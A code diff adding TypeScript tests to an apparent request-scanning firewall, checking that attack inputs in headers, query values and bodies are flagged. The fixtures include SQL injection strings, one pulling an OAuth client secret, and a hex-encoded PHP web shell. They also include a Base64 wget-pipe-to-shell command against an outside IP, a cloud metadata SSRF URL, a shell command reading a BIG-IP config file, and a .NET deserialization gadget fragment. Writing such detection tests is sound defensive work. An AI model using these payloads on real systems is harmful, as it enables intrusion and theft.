@@ -200,6 +200,51 @@ describe("URLs the application loads", () => {
   });
 });
 
+describe("headers and values read as the application reads them", () => {
+  const headers = (...h: Array<[string, string]>) => where(req({ headers: [["host", "app.example"], ...h] }));
+
+  it("scans a Bearer credential that is no token, and leaves tokens alone", () => {
+    expect(
+      headers(["authorization", "Bearer ';SELECT(0x3c3f7068702073797374656d28245f4745545b2763275d293b3f"]),
+    ).toContain("942120@header:authorization.bearer");
+    expect(headers(["authorization", "Bearer AAAAAA'/**/or/**/'1'='1'#"])).toContain(
+      "942100@header:authorization.bearer",
+    );
+    expect(headers(["authorization", "Bearer ya29.a0AfH6SMBx-_~+/0aBcD=="])).toEqual([]);
+  });
+
+  it("scans a Host that is no host name", () => {
+    const r = where(
+      req({ headers: [["host", "' UNION SELECT 1,2,3,(SELECT client_secret FROM oauth_clients LIMIT 1)-- "]] }),
+    );
+    expect(r).toContain("942130@header:host");
+    expect(where(req({ headers: [["host", "[2001:db8::1]:8443"]] }))).toEqual([]);
+  });
+
+  it("judges a query value's Base64 line of text, in UTF-8 or UTF-16LE", () => {
+    expect(query(["system", btoa("wget http://94.156.71.22/dlink.sh -O- | sh")])).toContain("932100@query:system.b64");
+    const utf16 = btoa(Array.from("http://169.254.169.254/latest/meta-data/", (ch) => `${ch}\u0000`).join(""));
+    expect(query(["Url", utf16])).toContain("934110@query:Url.b64");
+  });
+
+  it("reads a shell's -c arguments as the command string they are", () => {
+    expect(
+      post(
+        "application/json",
+        JSON.stringify({ command: "run", utilCmdArgs: "-c 'id; cat /config/bigip.conf | head -50'" }),
+      ),
+    ).toContain("932100@body:json.utilCmdArgs.sh");
+    expect(query(["args", "-c 'foo bar'"])).toEqual([]);
+  });
+
+  it("reads a body that is a serialized object in Base64", () => {
+    const dotnet = btoa(
+      "\u0000\u0001\u0000\u0000\u0000\u00ff\u00ff\u00ff\u00ff\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u000c\u0002\u0000\u0000\u0000ISystem, Version=4.0.0.0\u0005\u0001\u0000\u0000\u0000System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]\u0004System.Diagnostics.Process",
+    );
+    expect(post("application/octet-stream", dotnet)).toContain("944210@body:raw.serialized");
+  });
+});
+
 describe("query languages that name a MongoDB operator", () => {
   it("passes SoQL's $where condition and still takes JavaScript there", () => {
     expect(query(["$where", "issue_date > '2024-01-01' AND reported_cost < 500"], ["$limit", "1000"])).toEqual([]);
